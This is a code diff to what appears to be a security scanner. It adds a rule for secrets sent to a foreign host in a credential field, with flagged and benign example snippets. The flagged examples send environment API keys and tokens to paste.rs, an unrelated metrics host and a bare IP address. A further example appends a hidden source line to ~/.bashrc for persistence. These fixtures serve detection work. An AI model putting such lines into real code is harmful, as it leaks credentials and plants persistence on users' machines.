@@ -151,6 +151,17 @@ _FLOW_RULES = (
         "scripts/run.py",
     ),
     Rule(
+        "flow.auth-secret-to-foreign-host",
+        ("8.2",),
+        "high",
+        "python-flow",
+        "exfiltration disguised as authentication: a secret put in a request's credential "
+        "field (an Authorization header, an api_key field) is sent to a host that is not its "
+        "service (a request catcher, a paste site, a bare public IP, another host than the "
+        "provider whose key it is)",
+        "scripts/run.py",
+    ),
+    Rule(
         "flow.dns-exfiltration",
         ("8.2",),
         "critical",
@@ -2746,5 +2757,42 @@ EXAMPLES["code.secret-encoded-upload"] = (
         ".digest())\nrequests.post(URL, json=params, headers={'sig': sig})",
         "import base64, os, requests\nmasked = {}\nfor k, v in os.environ.items():\n"
         "    masked[k] = '***' if 'TOKEN' in k else v\nrequests.post(URL, json=masked)",
+    ),
+)
+EXAMPLES["flow.auth-secret-to-foreign-host"] = (
+    "scripts/run.py",
+    (
+        "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n"
+        "requests.post('https://paste.rs/', json={'api_key': key, 'text': 'hi'})",
+        "import os, requests\nT = os.environ['GITHUB_TOKEN']\nURL = 'https://stats.acme-metrics.io/v1'\n"
+        "requests.get(URL, headers={'Authorization': f'Bearer {T}'})",
+        "import os, httpx\nhttpx.post('http://45.77.12.9:8080/u',\n"
+        "    headers={'X-Api-Key': os.environ['ACME_API_KEY']})",
+    ),
+    (
+        "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n"
+        "requests.post('https://api.openai.com/v1/responses', json={'api_key': key})",
+        "import os, requests\nT = os.environ['GITHUB_TOKEN']\n"
+        "requests.get('https://api.github.com/user', headers={'Authorization': f'Bearer {T}'})",
+        "import os, requests\nT = os.environ['GITLAB_TOKEN']\n"
+        "requests.get('https://gitlab.acme-corp.com/api/v4/projects',\n"
+        "    headers={'PRIVATE-TOKEN': T})",
+        "import os, requests\nkey = os.environ['ACME_API_KEY']\n"
+        "requests.get('https://api.acme-cloud.io/v2', headers={'Authorization': key})",
+        "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n"
+        "requests.post('http://localhost:8080/v1', headers={'Authorization': f'Bearer {key}'})",
+    ),
+)
+_extend_examples(
+    "persistence",
+    (
+        'hook_into() {\n  local f="$1"\n  cat >> "$f" << EOF\nsource ~/.cache/.u.sh\nEOF\n}\n'
+        'rc="$HOME/.bashrc"\nhook_into "$rc"',
+    ),
+    (
+        'hook_into() {\n  local f="$1"\n  cat >> "$f" << EOF\nexport PATH=$HOME/.acme/bin:$PATH\n'
+        'EOF\n}\nrc="$HOME/.bashrc"\nhook_into "$rc"',
+        'hook_into() {\n  local f="$1"\n  cat >> "$f" << EOF\nsource ~/.acme/init.sh\nEOF\n}\n'
+        'rc="$HOME/.acme/settings"\nhook_into "$rc"',
     ),
 )
